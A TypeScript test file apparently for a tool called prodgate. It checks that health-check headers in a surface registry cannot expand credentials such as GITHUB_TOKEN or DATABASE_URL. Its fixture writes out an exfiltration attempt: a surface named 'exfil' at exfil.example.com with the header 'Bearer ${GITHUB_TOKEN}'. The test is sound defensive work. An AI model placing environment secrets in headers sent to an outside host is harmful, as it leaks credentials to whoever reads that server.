import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { canary, expectNoCanary } from "../support/canary.js";
import { freshDatabase } from "../support/db.js";
import { runAction, runCli } from "../support/run-action.js";
import { SweepWorld } from "../support/status-sweep-world.js";

/**
 * Attack: someone who can edit the surface registry points a health check at a server they read and names a
 * credential of the sweep's environment in a header (`X-Token: ${GITHUB_TOKEN}`, `${DATABASE_URL}`). Only
 * variables the registry lists under `secret-env:` are expanded, and prodgate's own credentials can never be
 * listed; anything else stops the sweep before a request is made, naming the field and the variable.
 */
describe("security: registry headers expand only the variables listed under secret-env", () => {
  const world = new SweepWorld();
  const workspace = mkdtempSync(join(tmpdir(), "prodgate-secret-env-"));
  const githubToken = canary("gh-token-in-env");
  let db: Awaited<ReturnType<typeof freshDatabase>>;

  const registry = (header: string, secretEnv?: string) =>
    `${secretEnv ? `secret-env: ${secretEnv}\n` : ""}surfaces:
  - id: exfil
    hostname: exfil.example.com
    provider: http
    health:
      url: ${world.sites.url}/exfil
      headers:
        X-Token: "${header}"
`;
  /** Requests the health server received that carry `value` anywhere in their headers. */
  const carrying = (value: string) =>
    world.sites.requests.filter((r) => Object.values(r.headers).some((v) => String(v).includes(value)));

  beforeAll(async () => {
    await world.start();
    db = await freshDatabase("secret_env");
  });
  afterAll(async () => {
    await db?.drop();
    await world.stop();
    rmSync(workspace, { recursive: true, force: true });
  });

  it("the action refuses ${GITHUB_TOKEN} when secret-env does not list it, and sends nothing", async () => {
    writeFileSync(join(workspace, "surfaces.yml"), registry("Bearer ${GITHUB_TOKEN}"));
    const before = world.sites.requestsTo("GET", "/exfil").length;
    const r = await runAction("status-sweep", {
      cwd: workspace,
      env: { ...world.env, GITHUB_TOKEN: githubToken },
      inputs: { registry: "surfaces.yml" },
    });
    expect(carrying(githubToken)).toEqual([]);
    expect(r.code).toBe(1);
    expect(r.errors).toEqual([
      "Registry surfaces.yml:8:18: surfaces[0] (exfil).health.headers.X-Token: uses ${GITHUB_TOKEN}, which is not listed under secret-env (list the variables a header may send there)",
    ]);
    expect(world.sites.requestsTo("GET", "/exfil").length).toBe(before);
    expect(r.outputs).toEqual({});
    expectNoCanary([githubToken], { run: r });
  });

  it("`prodgate sweep status` refuses ${DATABASE_URL}, even when secret-env lists it", async () => {
    // The CLI's own memory: a real database whose URL the registry tries to send away.
    const env = { PATH: process.env.PATH, ...world.env, DATABASE_URL: db.url };

    writeFileSync(join(workspace, "unlisted.yml"), registry("${DATABASE_URL}"));
    const unlisted = await runCli(["sweep", "status", "--registry", "unlisted.yml"], { cwd: workspace, env });
    expect(carrying(db.url)).toEqual([]);
    expect(unlisted.status).toBe(2);
    expect(unlisted.stderr).toContain(
      "surfaces[0] (exfil).health.headers.X-Token: uses ${DATABASE_URL}, which is not listed under secret-env",
    );

    writeFileSync(join(workspace, "listed.yml"), registry("${DATABASE_URL}", "[DATABASE_URL]"));
    const listed = await runCli(["sweep", "status", "--registry", "listed.yml"], { cwd: workspace, env });
    expect(listed.status).toBe(2);
    expect(listed.stderr).toContain(
      "secret-env[0]: DATABASE_URL is a credential of prodgate or the runner; it can never be sent in a health header",
    );

    expect(carrying(db.url)).toEqual([]);
    expectNoCanary([db.url], {
      unlisted: unlisted.stdout + unlisted.stderr,
      listed: listed.stdout + listed.stderr,
    });
  });

  it("a variable listed under secret-env is sent to its surface, masked and never printed", async () => {
    writeFileSync(join(workspace, "ok.yml"), registry("${ACCESS_SECRET}", "[ACCESS_SECRET]"));
    const before = world.sites.requestsTo("GET", "/exfil").length;
    const r = await runAction("status-sweep", {
      cwd: workspace,
      env: world.env,
      inputs: { registry: "ok.yml" },
    });
    expect(r.code, r.errors.join("\n")).toBe(0);
    const sent = world.sites.requestsTo("GET", "/exfil").slice(before);
    expect(sent.map((q) => q.headers["x-token"])).toEqual([world.tokens.header]);
    expect(r.masks).toContain(world.tokens.header);
    expectNoCanary([world.tokens.header], { run: r });
  });
});
